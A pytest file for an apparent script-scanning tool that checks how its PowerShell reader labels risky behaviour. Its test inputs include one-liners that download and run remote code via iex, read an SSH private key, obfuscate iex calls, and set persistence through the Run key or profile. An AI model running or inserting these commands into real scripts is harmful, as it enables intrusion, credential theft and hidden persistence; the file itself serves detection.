"""What scripts of PowerShell do, by cmdlets, .NET types and programs; what is only text is silent."""

from __future__ import annotations

import pytest

from plugseal.lang.facts import Context, FileFacts, Interest
from plugseal.lang.powershell.reader import PowerShellReader


def _read(source: str) -> FileFacts:
    return PowerShellReader().read(source.encode("utf-8"), Context("tools/x.ps1", Interest()))


def _does(source: str) -> set[tuple[str, str | None]]:
    return {(fact.capability, fact.object) for fact in _read(source).facts}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param("iwr https://a.example/x | iex", ("code.fetched", "a.example"), id="a download in a pipeline"),
        pytest.param(
            "$c = (New-Object Net.WebClient).DownloadString('http://a.example/x'); IEX $c",
            ("code.fetched", "a.example"),
            id="a download by .NET through a variable",
        ),
        pytest.param("$kind = [string]; Get-Content $kind[0]", ("fs.read", None), id="a type has no elements"),
        pytest.param("Start-Process a.exe -Verb RunAs", ("privilege", "runas"), id="as an administrator"),
        pytest.param("([adsisearcher]'a=b').FindAll()", ("system.info", None), id="a search in the directory"),
        pytest.param("$f.LastWriteTime = '01/01/1970'", ("fs.meta", None), id="the time of a file"),
        pytest.param(
            "Invoke-CimMethod -ClassName PS_ScheduledTask -MethodName RegisterByXml", ("persistence", None), id="a task"
        ),
        pytest.param(
            "[activator]::CreateInstance([type]::GetTypeFromProgID('Schedule.Service')).Connect()",
            ("persistence", "scheduled task"),
            id="an object by its type",
        ),
        pytest.param("i`e`x $x", ("code.obfuscated", "iex"), id="backticks in a name"),
        pytest.param('& "$PSScriptRoot\\..\\lib\\a.ps1"', ("process.exec", "lib/a.ps1"), id="a script above"),
        pytest.param("csc.exe -optimize -out:a.exe a.cs", ("fs.write", "a.exe"), id="an option with its value"),
        pytest.param("powershell -Command:'rm x'", ("code.dynamic", None), id="one of its own"),
        pytest.param("& ('{1}{0}' -f 'ex','i') $x", ("code.obfuscated", "iex"), id="a name by a format"),
        pytest.param("& (-join 'xei'[-1..-3]) $x", ("code.obfuscated", "iex"), id="a name backwards"),
        pytest.param(
            "& (-join ((105,101,120) | % { [char]$_ })) $x", ("code.obfuscated", "iex"), id="a name by numbers"
        ),
        pytest.param("([wmiclass]'Win32_Process').Create('x')", ("process.exec", "x"), id="a process by a cast"),
        pytest.param(
            "Add-Content $PROFILE 'x'",
            ("persistence", "~\\Documents\\WindowsPowerShell\\Microsoft.PowerShell_profile.ps1"),
            id="what starts with each session",
        ),
        pytest.param("gc $HOME\\.ssh\\id_rsa", ("credentials.read", "~\\.ssh\\id_rsa"), id="a key by an alias"),
        pytest.param("$env:API_TOKEN", ("env.read", "API_TOKEN"), id="a variable of the environment"),
        pytest.param("gci env:", ("env.bulk", None), id="the whole environment"),
        pytest.param("$env:X = 1", ("env.write", "X"), id="a variable set"),
        pytest.param("'a' > out.txt", ("fs.write", "out.txt"), id="a redirection"),
        pytest.param("rm -Recurse -Force C:\\x", ("fs.delete", "C:\\x"), id="switches before a path"),
        pytest.param("ri -rec -fo C:\\x", ("fs.delete", "C:\\x"), id="switches cut short before a path"),
        pytest.param(
            "iwr -useb https://a.example", ("net.outbound", "a.example"), id="a switch cut short before a URL"
        ),
        pytest.param("ni -itemt file C:\\x", ("fs.write", "C:\\x"), id="a parameter cut short that takes a value"),
        pytest.param("[IO.File]::WriteAllText('a.txt', $x)", ("fs.write", "a.txt"), id="a static method"),
        pytest.param(
            "$p = @{ Uri = 'http://a.example/' }; irm @p", ("net.outbound", "a.example"), id="splatted arguments"
        ),
        pytest.param(
            "function F($x) { gc $x }\nF 'C:\\secret'", ("fs.read", "C:\\secret"), id="an argument of a function"
        ),
        pytest.param("Set-Alias q iex; q $x", ("code.dynamic", None), id="an alias of the script's own"),
        pytest.param("git push", ("process.exec", "git"), id="a program"),
        pytest.param("Set-ExecutionPolicy Bypass", ("privilege", "Bypass"), id="the execution policy"),
        pytest.param("Add-Type -TypeDefinition $x", ("code.native", None), id="a type compiled"),
        pytest.param("Install-Module Foo", ("code.fetched", "Foo"), id="a module installed"),
        pytest.param("saps notepad", ("process.exec", "notepad"), id="a process by an alias"),
        pytest.param("New-Object $kind", ("code.reflective", None), id="a type that is not known"),
        pytest.param(
            "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b",
            ("persistence", "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a"),
            id="a key that runs programs",
        ),
        pytest.param("[Reflection.Assembly]::Load($b)", ("code.native", None), id="an assembly from memory"),
        pytest.param(
            "$f = New-Object Runtime.Serialization.NetDataContractSerializer; $f.ReadObject($s)",
            ("code.deserialize", None),
            id="a serializer that makes any type",
        ),
        pytest.param("[Windows.Markup.XamlReader]::Parse($x)", ("code.deserialize", None), id="XAML"),
        pytest.param(
            "$host.Runspace.CreateNestedPipeline($x, $false).Invoke()", ("code.dynamic", None), id="a pipeline of text"
        ),
        pytest.param("Invoke-Sqlcmd -ServerInstance db1 -Query $q", ("net.outbound", "db1"), id="a database"),
        pytest.param("[Windows.Forms.Clipboard]::GetText()", ("device.capture", "clipboard"), id="the clipboard"),
    ],
)
def test_what_is_done_is_said(source: str, expected: tuple[str, str | None]) -> None:
    assert expected in _does(source)


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("# iex (iwr http://a.example/)", id="a comment"),
        pytest.param("<# iex $x #>", id="a comment of several lines"),
        pytest.param("Write-Host 'iex (iwr http://a.example)'", id="a text that is printed"),
        pytest.param("$x = @'\niex $y\n'@", id="a here-string"),
        pytest.param("$a | Where-Object { $_.Name -eq 'x' } | Sort-Object Name", id="a pipeline over values"),
        pytest.param("$b = { 1 }; & $b", id="a script block of its own"),
        pytest.param("[CmdletBinding()]\nparam([Parameter(Mandatory)][string]$Name = 'x')", id="parameters"),
        pytest.param("if ($x -gt 1) { return } else { throw 'no' }", id="conditions"),
        pytest.param("Add-Type -AssemblyName System.Web", id="an assembly of .NET by its name"),
    ],
)
def test_what_only_looks_like_it_is_silent(source: str) -> None:
    found = _read(source)
    assert (found.status, found.facts, found.nested) == ("read", (), ())


@pytest.mark.parametrize(
    ("source", "language", "text"),
    [
        pytest.param("powershell -nop -enc aQBlAHgA", "PowerShell", "iex", id="an encoded command"),
        pytest.param("pwsh -Command 'gc x'", "PowerShell", "gc x", id="a command"),
        pytest.param("cmd /c 'del x'", "batch", "del x", id="a line for cmd"),
        pytest.param("bash -c 'rm x'", "shell", "rm x", id="a line for a shell"),
        pytest.param("python -c 'import os'", "python", "import os", id="Python"),
        pytest.param("iex ('g' + 'c x')", "PowerShell", "gc x", id="a text put together"),
        pytest.param(
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Z2MgeA==')))",
            "PowerShell",
            "gc x",
            id="a text decoded",
        ),
    ],
)
def test_code_goes_to_its_own_reader(source: str, language: str, text: str) -> None:
    assert (language, text) in {(one.language, one.text) for one in _read(source).nested}


def test_what_is_not_understood_is_said_and_the_rest_is_read() -> None:
    found = _read("gc a.txt\n)\nrm b.txt\n")
    assert found.status == "partial"
    assert {fact.object for fact in found.facts} == {"a.txt", "b.txt"}


@pytest.mark.parametrize("mark", ["(", "{", "$(", "'a'+", "[", "$a::", "@'\n", "a|", "$a.b()", "if(1){", "`", "-not "])
def test_any_depth_of_brackets_ends(mark: str) -> None:
    assert _read(mark * 3_000).status in ("read", "partial")
